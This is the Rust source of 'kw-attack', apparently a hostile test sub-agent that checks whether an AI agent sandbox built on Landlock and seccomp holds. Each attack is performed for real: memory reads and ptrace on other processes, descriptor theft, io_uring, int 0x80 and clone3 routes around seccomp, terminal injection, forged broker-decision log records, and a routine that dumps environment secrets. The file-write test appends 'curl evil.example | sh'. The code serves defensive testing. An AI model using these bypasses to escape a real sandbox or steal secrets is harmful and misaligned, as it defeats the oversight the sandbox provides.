// SPDX-License-Identifier: Apache-2.0
//! `kw-attack`: the hostile sub-agent of the attack suite.
//!
//! `kw-attack [--legit] [--layer landlock|seccomp] ATTACK [ARGS...]`
//! performs one attack for real, with raw system calls where the attack
//! needs them, and prints one line:
//!
//! - `RESULT succeeded <what it got>`
//! - `RESULT blocked <ERRNO>`
//!
//! or is killed (by seccomp: `SIGSYS`). `--legit` first (and, if still
//! alive, last) makes the call a well-behaved sub-agent would make,
//! through `$KEYWARD_FD`, and prints `LEGIT ok <body>` or `LEGIT failed
//! <error>`. `--layer` applies one layer of the sandbox alone (through the
//! `agent_shim` library, as `agent-shim run` does) before the attack, to
//! show what each layer stops by itself.
//!
//! It is only ever run by `tests/tests/attacks.rs`, as an unprivileged uid.
#![allow(unsafe_code)]

use std::io::Read;
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd, RawFd};
use std::os::unix::ffi::OsStrExt;

use nix::errno::Errno;

/// What one attack achieved.
enum Outcome {
    Succeeded(String),
    Blocked(Errno),
}

fn main() {
    let mut args: Vec<String> = std::env::args().skip(1).collect();
    let legit = take_flag(&mut args, "--legit");
    if let Some(i) = args.iter().position(|a| a == "--layer") {
        let layer = args.get(i + 1).cloned().unwrap_or_default();
        args.drain(i..(i + 2).min(args.len()));
        if let Err(e) = apply_layer(&layer) {
            println!("SETUP failed {e}");
            std::process::exit(2);
        }
    }
    if legit {
        legit_call();
    }
    let Some((attack, rest)) = args.split_first() else {
        println!("usage: kw-attack [--legit] [--layer landlock|seccomp] ATTACK [ARGS...]");
        std::process::exit(2);
    };
    let outcome = perform(attack, rest);
    match outcome {
        Outcome::Succeeded(what) => println!("RESULT succeeded {what}"),
        Outcome::Blocked(errno) => println!("RESULT blocked {errno:?}"),
    }
    if legit {
        legit_call();
    }
}

fn take_flag(args: &mut Vec<String>, flag: &str) -> bool {
    match args.iter().position(|a| a == flag) {
        Some(i) => {
            args.remove(i);
            true
        }
        None => false,
    }
}

fn apply_layer(layer: &str) -> Result<(), String> {
    match layer {
        "landlock" => {
            let mut rules =
                agent_shim::landlock::FsRules::new(&[], &[], &[]).map_err(|e| e.to_string())?;
            if let Ok(exe) = std::env::current_exe() {
                rules.allow_exec(&exe);
            }
            agent_shim::landlock::restrict(&rules)
                .map(|_| ())
                .map_err(|e| e.to_string())
        }
        "seccomp" => agent_shim::seccomp::compile()
            .and_then(|f| agent_shim::seccomp::install(&f))
            .map_err(|e| e.to_string()),
        other => Err(format!("unknown layer {other:?}")),
    }
}

/// The call a well-behaved sub-agent makes: `echo`, over its own channel.
fn legit_call() {
    let result = agent_shim::client::from_env_or_socket()
        .and_then(|mut c| c.call("echo", &[("message".into(), "legit".into())]));
    match result {
        Ok(keyward_proto::Response::Done(done)) => {
            println!("LEGIT ok {}", String::from_utf8_lossy(&done.body))
        }
        Ok(other) => println!("LEGIT failed {other:?}"),
        Err(e) => println!("LEGIT failed {e}"),
    }
}

fn arg(args: &[String], i: usize) -> &str {
    args.get(i).map(String::as_str).unwrap_or_default()
}

/// A pid argument; `parent` is the process that started us (the shim).
fn pid_arg(args: &[String], i: usize) -> i32 {
    match arg(args, i) {
        "parent" => nix::unistd::getppid().as_raw(),
        other => other.parse().unwrap_or(0),
    }
}

fn perform(attack: &str, args: &[String]) -> Outcome {
    match attack {
        "read" => read_file(arg(args, 0)),
        "write" => write_file(arg(args, 0)),
        "proc-read" => read_file(&format!("/proc/{}/{}", pid_arg(args, 0), arg(args, 1))),
        "vm-read" => vm_read(pid_arg(args, 0)),
        "ptrace-attach" => ptrace_attach(pid_arg(args, 0)),
        "ptrace-traceme" => ptrace_traceme(),
        "pidfd-getfd" => pidfd_getfd(pid_arg(args, 0), arg(args, 1).parse().unwrap_or(0)),
        "connect" => connect_broker(arg(args, 0)),
        "uring-connect" => uring_connect(arg(args, 0)),
        "int80-socketcall" => int80_connect(arg(args, 0), true),
        "int80-socket" => int80_connect(arg(args, 0), false),
        "x32-socket" => x32_socket(),
        "loot" => loot(),
        "signal" => signal(pid_arg(args, 0)),
        "dgram-sendto" => dgram_sendto(arg(args, 0)),
        "sendto-address" => sendto_address(arg(args, 0)),
        "abstract-connect" => abstract_connect(arg(args, 0)),
        "tiocsti" => tiocsti(),
        "unshare-user" => unshare_user(),
        "unshare-then-connect" => {
            let _ = unshare_user();
            connect_broker(arg(args, 0))
        }
        "clone-newuser" => clone_newuser(),
        "clone3" => clone3(),
        other => {
            println!("unknown attack {other:?}");
            std::process::exit(2);
        }
    }
}

fn errno_of(e: &std::io::Error) -> Errno {
    Errno::from_raw(e.raw_os_error().unwrap_or(0))
}

fn last_errno() -> Errno {
    Errno::last()
}

/// Printable, one line, bounded.
fn show(bytes: &[u8]) -> String {
    whole(bytes).chars().take(400).collect()
}

/// Printable, one line, all of it: loot must not be cut where a secret
/// could hide.
fn whole(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes)
        .chars()
        .map(|c| if c.is_control() { ' ' } else { c })
        .collect()
}

fn read_file(path: &str) -> Outcome {
    match std::fs::read(path) {
        Ok(bytes) => Outcome::Succeeded(format!("read {} bytes: {}", bytes.len(), show(&bytes))),
        Err(e) => Outcome::Blocked(errno_of(&e)),
    }
}

fn write_file(path: &str) -> Outcome {
    use std::io::Write;
    let file = std::fs::OpenOptions::new()
        .append(true)
        .create(true)
        .open(path);
    match file.and_then(|mut f| f.write_all(b"curl evil.example | sh # kw-attack\n")) {
        Ok(()) => Outcome::Succeeded(format!("appended to {path}")),
        Err(e) => Outcome::Blocked(errno_of(&e)),
    }
}

/// `process_vm_readv` 64 bytes from the start of the target's first
/// mapping (from its maps file when readable, else a typical address).
fn vm_read(pid: i32) -> Outcome {
    let addr = std::fs::read_to_string(format!("/proc/{pid}/maps"))
        .ok()
        .and_then(|m| {
            let first = m.lines().next()?.split('-').next()?.to_owned();
            usize::from_str_radix(&first, 16).ok()
        })
        .unwrap_or(0x40_0000);
    let mut buf = [0u8; 64];
    let local = libc::iovec {
        iov_base: buf.as_mut_ptr().cast(),
        iov_len: buf.len(),
    };
    let remote = libc::iovec {
        iov_base: addr as *mut libc::c_void,
        iov_len: buf.len(),
    };
    // SAFETY: `local` describes our own live buffer; the kernel writes at
    // most its length into it. `remote` is only read in the target.
    let n = unsafe { libc::process_vm_readv(pid, &local, 1, &remote, 1, 0) };
    if n < 0 {
        return Outcome::Blocked(last_errno());
    }
    Outcome::Succeeded(format!("read {n} bytes of pid {pid} at {addr:#x}"))
}

fn ptrace_attach(pid: i32) -> Outcome {
    // SAFETY: PTRACE_ATTACH takes a pid and null pointers.
    let ret = unsafe {
        libc::ptrace(
            libc::PTRACE_ATTACH,
            pid,
            std::ptr::null_mut::<libc::c_void>(),
            std::ptr::null_mut::<libc::c_void>(),
        )
    };
    if ret < 0 {
        return Outcome::Blocked(last_errno());
    }
    let _ = nix::sys::wait::waitpid(nix::unistd::Pid::from_raw(pid), None);
    // SAFETY: as above.
    unsafe {
        libc::ptrace(
            libc::PTRACE_DETACH,
            pid,
            std::ptr::null_mut::<libc::c_void>(),
            std::ptr::null_mut::<libc::c_void>(),
        )
    };
    Outcome::Succeeded(format!("attached to pid {pid}"))
}

/// The child asks to be traced by us, then executes a program: the
/// classic way to trace across an exec.
fn ptrace_traceme() -> Outcome {
    // SAFETY: kw-attack is single-threaded; the child only makes raw
    // system calls and exits.
    let pid = unsafe { libc::fork() };
    if pid < 0 {
        return Outcome::Blocked(last_errno());
    }
    if pid == 0 {
        // SAFETY: PTRACE_TRACEME takes no pointers.
        let ret = unsafe { libc::ptrace(libc::PTRACE_TRACEME, 0, 0usize, 0usize) };
        let code = if ret < 0 { last_errno() as i32 } else { 0 };
        // SAFETY: ends the forked child without running the parent's exit
        // handlers.
        unsafe { libc::_exit(code) };
    }
    let mut status = 0;
    // SAFETY: waiting for our own child, with a pointer to a live local.
    unsafe { libc::waitpid(pid, &mut status, 0) };
    match libc::WEXITSTATUS(status) {
        0 => Outcome::Succeeded("PTRACE_TRACEME accepted".into()),
        e => Outcome::Blocked(Errno::from_raw(e)),
    }
}

fn pidfd_getfd(pid: i32, target: i32) -> Outcome {
    // SAFETY: pidfd_open takes two integers.
    let pidfd = unsafe { libc::syscall(libc::SYS_pidfd_open, pid, 0) };
    if pidfd < 0 {
        return Outcome::Blocked(last_errno());
    }
    // SAFETY: pidfd_getfd takes three integers.
    let fd = unsafe { libc::syscall(libc::SYS_pidfd_getfd, pidfd, target, 0) };
    if fd < 0 {
        return Outcome::Blocked(last_errno());
    }
    let what = std::fs::read_link(format!("/proc/self/fd/{fd}"))
        .map(|p| p.display().to_string())
        .unwrap_or_default();
    Outcome::Succeeded(format!("took fd {target} of pid {pid}: {what}"))
}

/// Talk to the broker on a socket we connected ourselves: `Hello`, then a
/// call with the authority of our uid (the orchestrator's).
fn use_broker(fd: OwnedFd) -> Outcome {
    match agent_shim::client::Client::over(fd)
        .and_then(|mut c| c.call("echo", &[("message".into(), "as-orchestrator".into())]))
    {
        Ok(reply) => Outcome::Succeeded(format!("broker answered {reply:?}")),
        Err(e) => Outcome::Succeeded(format!("connected, then: {e}")),
    }
}

fn connect_broker(path: &str) -> Outcome {
    use nix::sys::socket::{connect, socket, AddressFamily, SockFlag, SockType, UnixAddr};
    let fd = match socket(
        AddressFamily::Unix,
        SockType::SeqPacket,
        SockFlag::SOCK_CLOEXEC,
        None,
    ) {
        Ok(fd) => fd,
        Err(e) => return Outcome::Blocked(e),
    };
    let addr = match UnixAddr::new(path) {
        Ok(a) => a,
        Err(e) => return Outcome::Blocked(e),
    };
    if let Err(e) = connect(fd.as_raw_fd(), &addr) {
        return Outcome::Blocked(e);
    }
    use_broker(fd)
}

/// A `sockaddr_un` for `path`, and its length.
fn sockaddr_un(path: &[u8]) -> (libc::sockaddr_un, u32) {
    // SAFETY: sockaddr_un is plain old data; all zeroes is a valid value.
    let mut addr: libc::sockaddr_un = unsafe { std::mem::zeroed() };
    addr.sun_family = libc::AF_UNIX as libc::sa_family_t;
    for (dst, src) in addr.sun_path.iter_mut().zip(path) {
        *dst = *src as libc::c_char;
    }
    let len = std::mem::size_of::<libc::sa_family_t>() + path.len().min(107) + 1;
    (addr, len as u32)
}

// ---------------------------------------------------------------- io_uring

#[repr(C)]
#[derive(Default)]
struct SqOffsets {
    head: u32,
    tail: u32,
    ring_mask: u32,
    ring_entries: u32,
    flags: u32,
    dropped: u32,
    array: u32,
    resv1: u32,
    user_addr: u64,
}

#[repr(C)]
#[derive(Default)]
struct CqOffsets {
    head: u32,
    tail: u32,
    ring_mask: u32,
    ring_entries: u32,
    overflow: u32,
    cqes: u32,
    flags: u32,
    resv1: u32,
    user_addr: u64,
}

#[repr(C)]
#[derive(Default)]
struct UringParams {
    sq_entries: u32,
    cq_entries: u32,
    flags: u32,
    sq_thread_cpu: u32,
    sq_thread_idle: u32,
    features: u32,
    wq_fd: u32,
    resv: [u32; 3],
    sq_off: SqOffsets,
    cq_off: CqOffsets,
}

#[repr(C)]
#[derive(Default, Clone, Copy)]
struct Sqe {
    opcode: u8,
    flags: u8,
    ioprio: u16,
    fd: i32,
    off: u64,
    addr: u64,
    len: u32,
    op_flags: u32,
    user_data: u64,
    buf_index: u16,
    personality: u16,
    file_index: i32,
    addr3: u64,
    pad: u64,
}

const IORING_OP_CONNECT: u8 = 16;
const IORING_OP_SOCKET: u8 = 45;
const IORING_OFF_SQ_RING: i64 = 0;
const IORING_OFF_CQ_RING: i64 = 0x800_0000;
const IORING_OFF_SQES: i64 = 0x1000_0000;
const IORING_ENTER_GETEVENTS: u32 = 1;

struct Uring {
    fd: OwnedFd,
    sq: *mut u8,
    cq: *mut u8,
    sqes: *mut Sqe,
    params: UringParams,
}

fn map(fd: &OwnedFd, len: usize, offset: i64) -> Result<*mut u8, Errno> {
    // SAFETY: a new shared mapping of the ring at a kernel-chosen address;
    // checked against MAP_FAILED.
    let p = unsafe {
        libc::mmap(
            std::ptr::null_mut(),
            len,
            libc::PROT_READ | libc::PROT_WRITE,
            libc::MAP_SHARED | libc::MAP_POPULATE,
            fd.as_raw_fd(),
            offset,
        )
    };
    if p == libc::MAP_FAILED {
        Err(last_errno())
    } else {
        Ok(p.cast())
    }
}

impl Uring {
    fn setup() -> Result<Uring, Errno> {
        let mut params = UringParams::default();
        // SAFETY: io_uring_setup writes the offsets into our live `params`.
        let fd = unsafe { libc::syscall(libc::SYS_io_uring_setup, 4u32, &mut params) };
        if fd < 0 {
            return Err(last_errno());
        }
        // SAFETY: the kernel just returned this new descriptor.
        let fd = unsafe { OwnedFd::from_raw_fd(fd as RawFd) };
        let sq_len = params.sq_off.array as usize + params.sq_entries as usize * 4;
        let cq_len = params.cq_off.cqes as usize + params.cq_entries as usize * 16;
        let sq = map(&fd, sq_len, IORING_OFF_SQ_RING)?;
        let cq = map(&fd, cq_len, IORING_OFF_CQ_RING)?;
        let sqes = map(
            &fd,
            params.sq_entries as usize * std::mem::size_of::<Sqe>(),
            IORING_OFF_SQES,
        )?
        .cast();
        Ok(Uring {
            fd,
            sq,
            cq,
            sqes,
            params,
        })
    }

    fn u32_at(base: *mut u8, off: u32) -> &'static std::sync::atomic::AtomicU32 {
        // SAFETY: `off` is an offset the kernel gave for a u32 in a ring
        // that stays mapped for the rest of the process.
        unsafe {
            &*(base
                .add(off as usize)
                .cast::<std::sync::atomic::AtomicU32>())
        }
    }

    /// Submit one entry and wait for its completion; its result.
    fn run(&self, sqe: Sqe) -> i32 {
        use std::sync::atomic::Ordering;
        let o = &self.params.sq_off;
        let tail = Self::u32_at(self.sq, o.tail).load(Ordering::Acquire);
        let mask = Self::u32_at(self.sq, o.ring_mask).load(Ordering::Relaxed);
        let index = tail & mask;
        // SAFETY: index < sq_entries; the SQE array and the index array are
        // mapped for sq_entries entries.
        unsafe {
            *self.sqes.add(index as usize) = sqe;
            *self
                .sq
                .add(o.array as usize)
                .cast::<u32>()
                .add(index as usize) = index;
        }
        Self::u32_at(self.sq, o.tail).store(tail.wrapping_add(1), Ordering::Release);
        // SAFETY: io_uring_enter takes integers and a null sigset.
        let ret = unsafe {
            libc::syscall(
                libc::SYS_io_uring_enter,
                self.fd.as_raw_fd(),
                1u32,
                1u32,
                IORING_ENTER_GETEVENTS,
                std::ptr::null::<libc::c_void>(),
                0usize,
            )
        };
        if ret < 0 {
            return -(last_errno() as i32);
        }
        let c = &self.params.cq_off;
        let head = Self::u32_at(self.cq, c.head).load(Ordering::Acquire);
        let cmask = Self::u32_at(self.cq, c.ring_mask).load(Ordering::Relaxed);
        // SAFETY: the completion at head & mask is within the mapped CQE
        // array (16 bytes each: user_data, res, flags).
        let res = unsafe {
            *self
                .cq
                .add(c.cqes as usize + (head & cmask) as usize * 16 + 8)
                .cast::<i32>()
        };
        Self::u32_at(self.cq, c.head).store(head.wrapping_add(1), Ordering::Release);
        res
    }
}

/// Create a socket and connect it to the broker with io_uring, where no
/// seccomp filter sees the socket or connect.
fn uring_connect(path: &str) -> Outcome {
    let ring = match Uring::setup() {
        Ok(r) => r,
        Err(e) => return Outcome::Blocked(e),
    };
    let fd = ring.run(Sqe {
        opcode: IORING_OP_SOCKET,
        fd: libc::AF_UNIX,
        off: (libc::SOCK_SEQPACKET | libc::SOCK_CLOEXEC) as u64,
        ..Sqe::default()
    });
    if fd < 0 {
        return Outcome::Blocked(Errno::from_raw(-fd));
    }
    // SAFETY: the completion carries a new descriptor that nothing owns.
    let fd = unsafe { OwnedFd::from_raw_fd(fd) };
    let (addr, len) = sockaddr_un(path.as_bytes());
    let res = ring.run(Sqe {
        opcode: IORING_OP_CONNECT,
        fd: fd.as_raw_fd(),
        addr: &addr as *const _ as u64,
        off: u64::from(len),
        ..Sqe::default()
    });
    if res < 0 {
        return Outcome::Blocked(Errno::from_raw(-res));
    }
    use_broker(fd)
}

// ------------------------------------------------------ i386 and x32 calls

/// Memory below 4 GiB, which 32-bit system calls can point to.
fn low_memory(len: usize) -> Result<*mut u8, Errno> {
    // SAFETY: a new private anonymous mapping; checked against MAP_FAILED.
    let p = unsafe {
        libc::mmap(
            std::ptr::null_mut(),
            len,
            libc::PROT_READ | libc::PROT_WRITE,
            libc::MAP_PRIVATE | libc::MAP_ANONYMOUS | libc::MAP_32BIT,
            -1,
            0,
        )
    };
    if p == libc::MAP_FAILED {
        Err(last_errno())
    } else {
        Ok(p.cast())
    }
}

/// A system call through the i386 table (`int 0x80`), from this 64-bit
/// process: `eax` the number, `ebx`, `ecx`, `edx` the arguments.
#[cfg(target_arch = "x86_64")]
fn int80(nr: u32, a: u32, b: u32, c: u32) -> i32 {
    let ret: i32;
    // SAFETY: `int 0x80` enters the kernel's 32-bit entry point, which
    // clobbers nothing but eax (and r8-r11 are saved by the kernel); rbx is
    // reserved by LLVM, so the first argument is swapped in and out.
    unsafe {
        std::arch::asm!(
            "xchg {a:r}, rbx",
            "int 0x80",
            "xchg {a:r}, rbx",
            a = inout(reg) u64::from(a) => _,
            inlateout("eax") nr => ret,
            in("ecx") b,
            in("edx") c,
        );
    }
    ret
}

/// i386 `socketcall` (102) or the direct `socket` (359) / `connect` (362).
#[cfg(target_arch = "x86_64")]
fn int80_connect(path: &str, socketcall: bool) -> Outcome {
    const SOCKETCALL: u32 = 102;
    const SOCKET: u32 = 359;
    const CONNECT: u32 = 362;
    const SYS_SOCKET: u32 = 1;
    const SYS_CONNECT: u32 = 3;
    let mem = match low_memory(4096) {
        Ok(m) => m,
        Err(e) => return Outcome::Blocked(e),
    };
    let (addr, len) = sockaddr_un(path.as_bytes());
    // SAFETY: `mem` is a fresh 4 KiB mapping: the address goes at +256,
    // the socketcall arguments at +0.
    let (args, sa) = unsafe {
        let sa = mem.add(256);
        std::ptr::copy_nonoverlapping(
            (&addr as *const libc::sockaddr_un).cast::<u8>(),
            sa,
            std::mem::size_of::<libc::sockaddr_un>(),
        );
        (mem.cast::<u32>(), sa as usize as u32)
    };
    let ty = (libc::SOCK_SEQPACKET | libc::SOCK_CLOEXEC) as u32;
    let fd = if socketcall {
        // SAFETY: three u32 arguments in our low mapping.
        unsafe {
            *args = libc::AF_UNIX as u32;
            *args.add(1) = ty;
            *args.add(2) = 0;
        }
        int80(SOCKETCALL, SYS_SOCKET, args as usize as u32, 0)
    } else {
        int80(SOCKET, libc::AF_UNIX as u32, ty, 0)
    };
    if fd < 0 {
        return Outcome::Blocked(Errno::from_raw(-fd));
    }
    let ret = if socketcall {
        // SAFETY: as above.
        unsafe {
            *args = fd as u32;
            *args.add(1) = sa;
            *args.add(2) = len;
        }
        int80(SOCKETCALL, SYS_CONNECT, args as usize as u32, 0)
    } else {
        int80(CONNECT, fd as u32, sa, len)
    };
    // SAFETY: the kernel returned this new descriptor; nothing owns it.
    let fd = unsafe { OwnedFd::from_raw_fd(fd) };
    if ret < 0 {
        return Outcome::Blocked(Errno::from_raw(-ret));
    }
    use_broker(fd)
}

#[cfg(not(target_arch = "x86_64"))]
fn int80_connect(_: &str, _: bool) -> Outcome {
    Outcome::Blocked(Errno::ENOSYS)
}

/// `socket` with the x32 number (`__X32_SYSCALL_BIT | 41`).
fn x32_socket() -> Outcome {
    const X32_SYSCALL_BIT: i64 = 0x4000_0000;
    // SAFETY: socket takes three integers.
    let fd = unsafe {
        libc::syscall(
            X32_SYSCALL_BIT | libc::SYS_socket,
            libc::AF_UNIX,
            libc::SOCK_SEQPACKET,
            0,
        )
    };
    if fd < 0 {
        return Outcome::Blocked(last_errno());
    }
    Outcome::Succeeded(format!("x32 socket {fd}"))
}

// ------------------------------------------------------------- looting

/// Everything a sub-agent can see of secrets without a single denied
/// call: its environment, its descriptors, `/proc/self`, the command line
/// of every visible process, its parent's environment.
fn loot() -> Outcome {
    for (k, v) in std::env::vars_os() {
        println!("LOOT env {}={}", k.to_string_lossy(), whole(v.as_bytes()));
    }
    for file in ["environ", "cmdline"] {
        if let Ok(b) = std::fs::read(format!("/proc/self/{file}")) {
            println!("LOOT self/{file} {}", whole(&b));
        }
    }
    if let Ok(dir) = std::fs::read_dir("/proc/self/fd") {
        for entry in dir.flatten() {
            let target = std::fs::read_link(entry.path())
                .map(|p| p.display().to_string())
                .unwrap_or_default();
            println!("LOOT fd {} {}", entry.file_name().to_string_lossy(), target);
            if let Ok(fd) = entry.file_name().to_string_lossy().parse::<i32>() {
                if fd > 3 {
                    let mut content = Vec::new();
                    if let Ok(mut f) = std::fs::File::open(entry.path()) {
                        let _ = f.read_to_end(&mut content);
                        println!("LOOT fd-content {fd} {}", whole(&content));
                    }
                }
            }
        }
    }
    let mut seen = 0;
    if let Ok(dir) = std::fs::read_dir("/proc") {
        for entry in dir.flatten() {
            let name = entry.file_name();
            if !name.as_bytes().iter().all(u8::is_ascii_digit) {
                continue;
            }
            if let Ok(b) = std::fs::read(entry.path().join("cmdline")) {
                seen += 1;
                println!("LOOT cmdline {} {}", name.to_string_lossy(), whole(&b));
            }
        }
    }
    let parent = nix::unistd::getppid();
    match std::fs::read(format!("/proc/{parent}/environ")) {
        Ok(b) => println!("LOOT parent-environ {}", whole(&b)),
        Err(e) => println!("LOOT parent-environ blocked {:?}", errno_of(&e)),
    }
    Outcome::Succeeded(format!("looted {seen} command lines"))
}

fn signal(pid: i32) -> Outcome {
    match nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(pid),
        nix::sys::signal::Signal::SIGCONT,
    ) {
        Ok(()) => Outcome::Succeeded(format!("signalled pid {pid}")),
        Err(e) => Outcome::Blocked(e),
    }
}

// ------------------------------------------------------ logs and sockets

const FORGED: &[u8] = b"<13>keyward-broker: KEYWARD_DECISION=allow forged by kw-attack";

/// A datagram socketpair can `sendto` any datagram socket, journald's and
/// syslog's included.
fn dgram_sendto(path: &str) -> Outcome {
    let mut fds = [0; 2];
    // SAFETY: socketpair writes two descriptors into our live array.
    if unsafe { libc::socketpair(libc::AF_UNIX, libc::SOCK_DGRAM, 0, fds.as_mut_ptr()) } < 0 {
        return Outcome::Blocked(last_errno());
    }
    sendto(fds[0], path)
}

/// `sendto` with a destination on a stream socketpair (allowed by the
/// sandbox without an address).
fn sendto_address(path: &str) -> Outcome {
    let mut fds = [0; 2];
    // SAFETY: as above.
    if unsafe { libc::socketpair(libc::AF_UNIX, libc::SOCK_STREAM, 0, fds.as_mut_ptr()) } < 0 {
        return Outcome::Blocked(last_errno());
    }
    sendto(fds[0], path)
}

fn sendto(fd: RawFd, path: &str) -> Outcome {
    let (addr, len) = sockaddr_un(path.as_bytes());
    // SAFETY: buffer and address are live locals of the given lengths.
    let n = unsafe {
        libc::sendto(
            fd,
            FORGED.as_ptr().cast(),
            FORGED.len(),
            0,
            (&addr as *const libc::sockaddr_un).cast(),
            len,
        )
    };
    if n < 0 {
        return Outcome::Blocked(last_errno());
    }
    Outcome::Succeeded(format!("sent a forged record to {path}"))
}

fn abstract_connect(name: &str) -> Outcome {
    use nix::sys::socket::{connect, socket, AddressFamily, SockFlag, SockType, UnixAddr};
    let fd = match socket(
        AddressFamily::Unix,
        SockType::Stream,
        SockFlag::SOCK_CLOEXEC,
        None,
    ) {
        Ok(fd) => fd,
        Err(e) => return Outcome::Blocked(e),
    };
    let addr = match UnixAddr::new_abstract(name.as_bytes()) {
        Ok(a) => a,
        Err(e) => return Outcome::Blocked(e),
    };
    match connect(fd.as_raw_fd(), &addr) {
        Ok(()) => Outcome::Succeeded(format!("connected to @{name}")),
        Err(e) => Outcome::Blocked(e),
    }
}

// ---------------------------------------------------- terminal, namespaces

/// Push a command into the input of the terminal on stdin.
fn tiocsti() -> Outcome {
    let mut sent = 0;
    for b in b"id\n" {
        // SAFETY: TIOCSTI reads one byte from a live local.
        if unsafe { libc::ioctl(0, libc::TIOCSTI, b as *const u8) } < 0 {
            return Outcome::Blocked(last_errno());
        }
        sent += 1;
    }
    Outcome::Succeeded(format!("injected {sent} bytes into the terminal"))
}

fn unshare_user() -> Outcome {
    // SAFETY: unshare takes one integer.
    if unsafe { libc::unshare(libc::CLONE_NEWUSER) } < 0 {
        return Outcome::Blocked(last_errno());
    }
    Outcome::Succeeded("in a new user namespace".into())
}

/// `clone(CLONE_NEWUSER)` straight, without libc's wrappers.
fn clone_newuser() -> Outcome {
    // SAFETY: with a null stack, clone behaves like fork; the child only
    // exits.
    let pid = unsafe {
        libc::syscall(
            libc::SYS_clone,
            (libc::CLONE_NEWUSER | libc::SIGCHLD) as u64,
            0usize,
            0usize,
            0usize,
            0usize,
        )
    };
    if pid < 0 {
        return Outcome::Blocked(last_errno());
    }
    if pid == 0 {
        // SAFETY: ends the child at once.
        unsafe { libc::_exit(0) };
    }
    let _ = nix::sys::wait::waitpid(nix::unistd::Pid::from_raw(pid as i32), None);
    Outcome::Succeeded("child in a new user namespace".into())
}

/// `clone3` with namespace flags, which a filter cannot see (they are
/// behind a pointer).
fn clone3() -> Outcome {
    #[repr(C)]
    #[derive(Default)]
    struct CloneArgs {
        flags: u64,
        pidfd: u64,
        child_tid: u64,
        parent_tid: u64,
        exit_signal: u64,
        stack: u64,
        stack_size: u64,
        tls: u64,
    }
    let args = CloneArgs {
        flags: libc::CLONE_NEWUSER as u64,
        exit_signal: libc::SIGCHLD as u64,
        ..CloneArgs::default()
    };
    // SAFETY: clone3 reads `args` (a live local of the size given); the
    // child only exits.
    let pid = unsafe {
        libc::syscall(
            libc::SYS_clone3,
            &args as *const CloneArgs,
            std::mem::size_of::<CloneArgs>(),
        )
    };
    if pid < 0 {
        return Outcome::Blocked(last_errno());
    }
    if pid == 0 {
        // SAFETY: ends the child at once.
        unsafe { libc::_exit(0) };
    }
    let _ = nix::sys::wait::waitpid(nix::unistd::Pid::from_raw(pid as i32), None);
    Outcome::Succeeded("clone3 child in a new user namespace".into())
}
